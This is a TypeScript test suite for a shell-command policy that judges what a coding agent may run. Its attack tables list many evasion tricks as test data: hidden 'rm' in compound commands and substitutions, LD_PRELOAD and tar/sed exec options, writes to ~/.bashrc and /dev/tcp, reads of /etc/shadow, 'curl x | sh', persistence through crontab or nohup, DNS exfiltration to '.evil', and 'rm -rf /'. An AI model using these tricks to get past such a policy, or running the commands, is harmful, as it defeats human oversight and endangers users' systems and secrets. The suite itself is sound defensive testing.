import { createPolicy, type PolicyDecision, tool } from '@sluice/kernel';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type CommandPolicyOptions, createCommandPolicy } from './command-policy.js';
import type { CommandRule } from './command-rule.js';
import { createCommandJudge } from './judge-command.js';
import { defaultCommandRules } from './rules/default-rules.js';

const judge = createCommandJudge(defaultCommandRules);
const bashRun = tool('bash_run', () => null, { allowedModes: ['coding'] });

async function decide(
  command: string,
  options: CommandPolicyOptions = {},
): Promise<PolicyDecision> {
  const policy = createPolicy({ mode: 'auto', rules: [createCommandPolicy(options)] });
  const question = {
    tool: bashRun,
    args: { command },
    mode: 'coding' as const,
    sessionId: 's',
    agentId: 'a',
  };
  return policy.evaluate(question);
}

describe('attacks of the area shell policy: none of them passes unasked', () => {
  const attacks: Readonly<Record<string, readonly string[]>> = {
    'S01 every part of a compound command is judged': [
      'ls; rm x',
      'ls && curl x',
      'ls || rm x',
      'ls | sh',
      'ls & rm x',
      'ls\nrm x',
      'if ls; then rm x; fi',
      'for i in 1; do curl x; done',
      'case a in a) rm x;; esac',
      '(rm x)',
      '{ rm x; }',
      'while true; do rm x; done',
      '! rm x',
      'time rm x',
    ],
    'S02 substitutions are judged as commands, in quotes and in paths too': [
      'echo $(rm x)',
      'echo "a $(curl x) b"',
      'echo `rm x`',
      'echo "`rm x`"',
      'ls "dir/$(curl x)/y"',
      'cat <(curl x)',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell's own braces.
      'echo ${x:-$(rm x)}',
      'echo $(( $(rm x) + 1 ))',
      'cat <<EOF\n$(rm x)\nEOF',
      'echo "$(echo "$(rm x)")"',
    ],
    'S04 redirections are judged as file or network access': [
      'echo x > ~/.bashrc',
      'echo x >| ~/.bashrc',
      'echo x &> ~/.zshrc',
      'echo x >> .git/hooks/x',
      'cat < /etc/shadow',
      'echo x > /dev/tcp/h/80',
      'exec 3<>/dev/tcp/h/80',
    ],
    'S05 environment prefixes that load or run something': [
      'LD_PRELOAD=./x.so ls',
      'GIT_SSH_COMMAND=x git log',
      'PAGER=x git log',
      'NODE_OPTIONS=--require=./x node a.js',
      'BASH_ENV=x bash a.sh',
      'PATH=.:$PATH ls',
      'X=1',
      'env LD_PRELOAD=x ls',
      'export PATH=.',
    ],
    'S07 programs that seem to read but can run or write': [
      'find . -exec sh -c x {} +',
      'find . -delete',
      'find . -fprintf x y',
      "sed '1e id' a",
      "sed 'w x' a",
      'awk \'BEGIN{system("id")}\'',
      'rg --pre ./x y',
      'git -c core.pager=x log',
      'git diff --ext-diff',
      'tar cf a --checkpoint-action=exec=x .',
      'sort --compress-program=x a',
      'man -P x ls',
      'yarn plugin import x',
    ],
    'S07 words of listed programs that run something': [
      "sed -l 1p '1e touch x' a",
      "sed --e='1e touch x' p",
      "sed -l --version '1e touch x' a",
      "make 'X!=touch x'",
      "make 'X:=$(shell touch x)'",
      "make --ev='$(shell touch x)'",
      'install -s --strip-program=./x a b',
      'perl -e\'system("touch x")\'',
      "perl '-Mstrict;system(1)' a",
      "python3 -c'import os'",
      "python3 -m timeit 'import os'",
      "python3 -mtimeit 'import os'",
      "zip -qT '-TTtouch x #' b.zip a",
      'node --loader=data:text/javascript,x a.js',
      'man -C ./x ls',
      'npm explore x -- touch y',
      "TAR_OPTIONS='--to-command=x' tar xf a.tar",
      "MAKEFLAGS='--eval=x' make",
    ],
    'S09 options that go on behind a "--" which is a value': [
      "tar -x -f -- --to-command='touch x'",
      'sort -k 1 -t -- --compress-program=./x a',
    ],
    'item 5: a file of the workspace that is named like a program of the system': [
      './ls',
      'sub/../cat a',
      'bin/cp a b',
      '/tmp/wc a',
      '../git status',
      'env ./ls',
      './make',
    ],
    'S08 names that come out only when the command runs': [
      'cat$IFS/etc/passwd',
      '{cat,/etc/passwd}',
      '/bin/c?t /etc/passwd',
      'a=ca;b=t;$a$b /etc/passwd',
      "$'\\x72m' x",
      "r''m x",
      'r\\m x',
      '"rm" x',
    ],
    'S10 characters that hide between tokens': [
      'ls\rrm x',
      'ls\vrm',
      'ls\u00a0-l',
      'ls\u200b',
      'ls \u202e',
      'ls\u3000a',
      'ls \u0000',
    ],
    'S11 quotes that do not close and trailing backslashes': [
      'echo "a',
      "echo 'a",
      'echo `a',
      'echo $(a',
      'echo ${a',
      'echo a\\',
      'echo a # "\n"',
      "echo $'a",
      'cat <<EOF\nx',
      'echo a )',
      'if true; then ls',
    ],
    'S13 definitions that change what a command means': [
      "alias ls='rm x'",
      'ls(){ rm x; }; ls',
      'hash -p /tmp/x ls',
      'enable -f ./x.so y',
      "trap 'rm x' EXIT",
    ],
    'S14 wildcards that may become options': ['tar cf a *', 'rm *', 'rsync * h', 'rg x *'],
    'S16 other shells and their words': [
      '=ls',
      "zsh -c 'ls'",
      'pwsh -c ls',
      '[[ x =~ $(rm x) ]]',
      'ls !(a)',
    ],
    'S17 what goes on after the session': [
      'crontab -e',
      'echo x | at now',
      'systemd-run x',
      'nohup x &',
      'sleep 9 & disown',
    ],
    'S20 an approved command with something behind it': ['npm test; curl x', 'npm test $(curl x)'],
    'S22 every spelling of removing': [
      'rm -r -f x',
      'rm --recursive --force x',
      'rm -fr x',
      'find . -delete',
      'git clean -xfd',
      'python -c "import shutil"',
      'truncate -s0 f',
      ':> f',
      '> f',
      'RM x',
    ],
    'S23 data out by ordinary tools': ['git push', 'curl x', 'dig $(x).evil', 'npm publish'],
    'C4 wrappers and paths do not hide a program': [
      'bash rm x',
      'bash "rm x"',
      'watch "rm x"',
      'find . -exec bash -c \'rm "$1"\' _ {} +',
      'xargs -I {} rm {}',
      'command -p rm x',
      'builtin eval "rm x"',
      '/bin/rm x',
      'true; rm x',
      'env rm x',
      'env -i A=1 rm x',
      'nice -n 5 rm x',
      'timeout 5 rm x',
      'xargs rm',
      'command rm x',
      'bash -c "rm x"',
      "bash -lc 'cd y && rm x'",
      "sh -ec 'rm x'",
      "bash <<'EOF'\nrm x\nEOF",
      'bash -c "bash -c \'rm x\'"',
      'busybox rm x',
      'stdbuf -o0 rm x',
      'nohup env FOO=1 nice rm x',
    ],
  };
  for (const [title, commands] of Object.entries(attacks)) {
    test(title, async () => {
      const decisions = await Promise.all(commands.map((command) => decide(command)));
      const passed = commands.filter((_, index) => decisions[index]?.verdict === 'allow');
      expect(passed).toEqual([]);
    });
  }

  test('S19 a command of 1 MB and 10,000 nested substitutions are denied without being read through', async () => {
    expect(await decide(`echo ${'a'.repeat(1_000_000)}`)).toMatchObject({ verdict: 'deny' });
    expect(await decide('$('.repeat(10_000))).toMatchObject({ verdict: 'deny' });
    expect(await decide('$(('.repeat(10_000))).toMatchObject({ verdict: 'deny' });
    expect(await decide('`'.repeat(9_999))).toMatchObject({ verdict: 'ask' });
    expect(await decide('a;'.repeat(9_000))).toMatchObject({ verdict: 'deny' });
  });

  test.each([51, 500, 5_000])(
    'S12 after %d parts that do nothing a denied command is still denied',
    async (parts) => {
      const quiet = Array.from({ length: parts }, () => ':').join(';');
      expect(await decide(`${quiet};rm -rf /`)).toMatchObject({ verdict: 'deny' });
      expect(await decide(`${quiet};ls`)).not.toMatchObject({ verdict: 'ask' });
    },
  );

  test.each([
    'rm -rf /; echo "unclosed',
    'echo "unclosed\'; rm -rf /',
    'ls\u00a0; rm -rf /',
    "'r'm -rf / )",
    'env rm -rf ~ `',
    'unshare -r rm -rf /',
    'setarch x86_64 rm -rf /etc',
    'ssh host "rm -rf /"',
    'prlimit --bogus=1 rm -rf /usr',
    'env --bogus rm -rf /',
    'mkfs.ext4 /dev/sda1 $(',
  ])('item 5: what cannot be read does not weaken a deny: %j', async (command) => {
    expect(await decide(command)).toMatchObject({ verdict: 'deny' });
  });
});

describe('risk for the approval card', () => {
  const table: readonly (readonly [string, string, string])[] = [
    ['ls -la src | grep ts', 'read', 'allow'],
    ["sed -n '1,20p' a.ts", 'read', 'allow'],
    ["find . -name '*.ts' | head -20", 'read', 'allow'],
    ['git status && git diff', 'read', 'allow'],
    ['echo reboot; grep "rm -rf /" notes.txt', 'read', 'allow'],
    ['npm test', 'write', 'allow'],
    ['echo a > b', 'write', 'allow'],
    ['mkdir -p x && cp a x/', 'write', 'allow'],
    ['write a.txt "use -h and rm -rf / for help"', 'write', 'allow'],
    ['curl x', 'network', 'ask'],
    ['git push origin main', 'network', 'ask'],
    ['rm -rf build', 'destructive', 'ask'],
    ['rm -fr /', 'destructive', 'deny'],
    ['echo "unclosed', 'destructive', 'ask'],
    ['test -f a && [ -d b ] || echo no', 'read', 'allow'],
    ['for f in src/*.ts; do wc -l "$f"; done', 'read', 'allow'],
    ["cat <<'EOF' > a.txt\n$(rm -rf /) `x`\nEOF", 'write', 'allow'],
  ];
  for (const [command, risk, verdict] of table) {
    test(`${JSON.stringify(command)} is ${risk}, ${verdict}`, async () => {
      expect(await decide(command)).toMatchObject({ risk, verdict });
    });
  }

  test('the decision names the rule, the reason and where it stands', async () => {
    expect(await decide('rm x', { source: '.sluice/policy.json' })).toMatchObject({
      verdict: 'ask',
      raisedBy: 'rule',
      risk: 'destructive',
      rule: 'remove: removes files',
      where: '.sluice/policy.json',
    });
  });

  test('a tool without a command is left to the other rules', async () => {
    const rule = createCommandPolicy();
    const question = { mode: 'coding' as const, sessionId: 's', agentId: 'a' };
    const other = tool('fs_read', () => 1);
    expect(await rule({ ...question, tool: other, args: { command: 'rm x' } })).toBe(undefined);
    expect(await rule({ ...question, tool: bashRun, args: null })).toBe(undefined);
    expect(await rule({ ...question, tool: bashRun, args: { cmd: 'rm x' } })).toMatchObject({
      verdict: 'ask',
    });
  });
});

test('B7 the everyday commands of a coding agent are not asked about', async () => {
  const commands = [
    'npm run build 2>&1 | tail -20',
    'npm test -- --run src/a.test.ts',
    'git add -A && git commit -m "message"',
    `git commit -m "$(cat <<'EOF'\nAdd (a) thing; it's "done"\n\n- more\nEOF\n)"`,
    'git log --oneline -10',
    'git diff --stat HEAD~1 -- src',
    "find . -maxdepth 2 -name '*.ts' -not -path '*/node_modules/*' -type f",
    "rg -n 'foo|bar' src/ -g '*.ts' | head -50",
    'grep reboot notes.txt',
    'grep -rn "rm -rf" --include=*.md .',
    'ls -la && cat package.json | jq .scripts',
    'cd packages/x && npm --version 2>/dev/null || true',
    "sed -n '10,60p' src/a.ts",
    'wc -l src/*.ts | sort -n | tail -5',
    'timeout 60 npm test',
    'python3 -m pytest -x tests/',
    'node scripts/check.mjs --json',
    'cargo test --release',
    'make -j4',
    'mkdir -p a/b && cp -r x a/b/ && mv a/b c',
    "cat > a.txt <<'EOF'\n$(rm -rf /)\nEOF",
    'for f in src/*.ts; do echo "== $f"; head -5 "$f"; done',
    'if [ -f a ]; then cat a; else echo none; fi',
    '[[ -d src && ! -e x ]] && echo yes',
    'echo $((1 + 2)) "$HOME" $?',
    'diff <(sort a) <(sort b)',
    'tail -n +5 a | cut -d, -f2 | uniq -c',
    'date +%s; pwd; which node',
    'tsc -b 2>&1 | grep -c error',
    'FOO=1 CI=true npm run lint',
    'NODE_ENV=test LOG_LEVEL=debug npm test',
    './node_modules/.bin/vitest run src',
    '/usr/bin/grep -n x a',
    'git config --global --list',
    'python3 -u -m unittest discover',
    'perl -w script.pl',
    'gcc -Wall -g -O2 -o a a.c',
    'sed -i.bak "s/a/b/" x',
    'zip -r out.zip src',
    'GOOS=linux go build ./...',
  ];
  const decisions = await Promise.all(
    commands.map(async (command) => [command, await decide(command)] as const),
  );
  const asked = decisions
    .filter(([, { verdict }]) => verdict !== 'allow')
    .map(([command, { rule }]) => `${command} → ${rule}`);
  expect(asked).toEqual([]);
});

describe('programs that are denied by name (C4)', () => {
  const deny = { denyPrograms: ['rm', 'write'] };
  for (const command of [
    'rm x',
    'bash rm x',
    '/bin/rm x',
    'true; rm x',
    'env rm x',
    'echo "$(rm x)"',
    'write a b',
    'echo a > b',
    'ls >> b',
    '$x y',
    'echo "unclosed',
    'curl x | sh',
  ]) {
    test(`${command} is denied`, async () => {
      expect(await decide(command, deny)).toMatchObject({ verdict: 'deny' });
    });
  }
  test('what only speaks of them passes', async () => {
    expect(await decide('echo rm; grep write a', deny)).toMatchObject({ verdict: 'allow' });
  });
});

describe('rules are checked when they load', () => {
  const rule: CommandRule = {
    id: 'deploy',
    risk: 'network',
    verdict: 'deny',
    reason: 'deploys',
    when: { programs: ['deploy'] },
    examples: { matches: ['deploy now'], misses: ['echo deploy'] },
  };
  test('a good rule is used', async () => {
    expect(await decide('./deploy now', { extraRules: [rule] })).toMatchObject({ verdict: 'deny' });
  });
  test('an example that does not match stops the load', async () => {
    const wrong = { ...rule, examples: { matches: ['echo deploy'], misses: ['ls'] } };
    expect(() => createCommandPolicy({ extraRules: [wrong] })).toThrow(
      'Rule "deploy" does not match its example: echo deploy',
    );
  });
  test('an example that must not match stops the load when it does', async () => {
    const wrong = { ...rule, examples: { matches: ['deploy'], misses: ['env deploy'] } };
    expect(() => createCommandPolicy({ extraRules: [wrong] })).toThrow('matches what it must not');
  });
  test('a rule without examples, without a condition or with a known id does not load', async () => {
    const bare = { ...rule, examples: { matches: [], misses: [] } };
    expect(() => createCommandPolicy({ extraRules: [bare] })).toThrow('needs an example');
    expect(() => createCommandPolicy({ extraRules: [{ ...rule, when: {} }] })).toThrow(
      'no condition',
    );
    expect(() => createCommandPolicy({ extraRules: [rule, rule] })).toThrow('Two command rules');
  });
});

describe('property: text never breaks the judge', () => {
  test('any text gets a verdict', async () => {
    const token = fc.constantFrom(
      ...['rm', 'ls', '$(', ')', '`', '"', "'", '\\', ';', '&&', '|', '\n', '{', '}', '((', '))'],
      ...[
        '<<EOF',
        'EOF',
        '>',
        '<(',
        '${',
        '$((',
        'if',
        'then',
        'fi',
        'case',
        'esac',
        'in',
        '[[',
        ']]',
      ],
      ...['a=1', ' ', '#', '~', '*', 'bash -c', 'for', 'do', 'done', 'f()', '=~', '&', '$x', ';;'],
    );
    fc.assert(
      fc.property(fc.array(token, { maxLength: 30 }), fc.constantFrom('', ' '), (parts, glue) => {
        const { verdict, risk } = judge(parts.join(glue));
        expect(['allow', 'ask', 'deny']).toContain(verdict);
        expect(['read', 'write', 'network', 'destructive']).toContain(risk);
      }),
      { numRuns: 2_000 },
    );
  });

  test('rm in command position is found behind any prefix of harmless commands', async () => {
    const prefix = fc.constantFrom(
      'ls; ',
      'true && ',
      'echo "a;b" | ',
      'cat <<E\nx\nE\n',
      'A=1 ',
      '(',
      '{ ',
    );
    fc.assert(
      fc.property(fc.array(prefix, { maxLength: 6 }), (parts) => {
        const command = `${parts.join('')}rm x`;
        expect(judge(command).verdict).not.toBe('allow');
      }),
    );
  });
});

test('S15 paths are judged from the folder that the call starts in', async () => {
  const rule = createCommandPolicy();
  const ask = (command: string, cwd?: string) =>
    rule({
      tool: bashRun,
      args: { command, ...(cwd === undefined ? {} : { cwd }) },
      mode: 'coding',
      sessionId: 's',
      agentId: 'a',
    });
  expect(await ask('cat config')).toMatchObject({ verdict: 'allow' });
  expect(await ask('cat config', '.ssh')).toMatchObject({ verdict: 'ask' });
  expect(await ask('echo x > pre-push.txt', 'sub/.git/hooks')).toMatchObject({ verdict: 'ask' });
  expect(await ask('make -C .git/x all')).toMatchObject({ verdict: 'ask' });
});

test('F23 item 8: a word is judged by where its links lead', async () => {
  const resolver = {
    resolvePath: async (path: string) => {
      const place = path === 'notes.txt' ? '.env' : path === 'docs/x' ? '.git/config' : path;
      return { path: place, absolutePath: `/w/${place}` };
    },
  };
  expect(await decide('cat notes.txt', { resolver })).toMatchObject({
    verdict: 'ask',
    risk: 'read',
  });
  expect(await decide('cd docs && cat ../notes.txt', { resolver })).toMatchObject({
    verdict: 'ask',
  });
  const matched = async (command: string) =>
    (await decide(command, { resolver }))?.matched?.map(
      ({ name, verdict }) => `${name} ${verdict}`,
    );
  expect(await matched('cat notes.txt')).toContain('secret-file ask');
  expect(await decide('echo x > docs/x', { resolver })).toMatchObject({ verdict: 'ask' });
  expect(await decide('cp a/x docs', { resolver })).toMatchObject({ verdict: 'ask' });
  expect(await decide('cat README.md docs/y', { resolver })).toMatchObject({ verdict: 'allow' });
});
